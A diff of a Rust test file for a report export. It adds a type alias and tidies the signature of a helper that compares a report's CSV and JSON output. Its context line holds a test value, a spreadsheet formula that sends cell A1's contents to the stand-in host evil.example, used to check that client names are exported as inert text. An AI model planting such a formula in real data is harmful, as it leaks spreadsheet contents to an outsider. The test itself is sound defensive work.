@@ -122,14 +122,13 @@ fn commissioners_named_like_formulas_are_exported_as_text() -> TestResult {
 /// A client whose name is a formula: names are user input and must reach a spreadsheet as text.
 const HOSTILE_CLIENT: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Mrs Jones\")";
 
+/// A report's CSV header, its parsed lines (header first) and its JSON rows.
+type Export = (Vec<String>, Vec<Vec<(String, bool)>>, Vec<Value>);
+
 /// Fetches a report as JSON rows and as CSV; checks the CSV has exactly the JSON's fields as
 /// columns, each cell the JSON's value (text neutralised, percentages to one decimal), and
 /// returns the CSV's header and lines.
-fn csv_and_json(
-    office: &Office,
-    path: &str,
-    rows_of: fn(&Value) -> &Value,
-) -> TestResult<(Vec<String>, Vec<Vec<(String, bool)>>, Vec<Value>)> {
+fn csv_and_json(office: &Office, path: &str, rows_of: fn(&Value) -> &Value) -> TestResult<Export> {
     let (status, json) = office.call("GET", path, None)?;
     assert_eq!(status, 200, "{path}: {json}");
     let rows = rows_of(&json).as_array().ok_or("rows")?.clone();
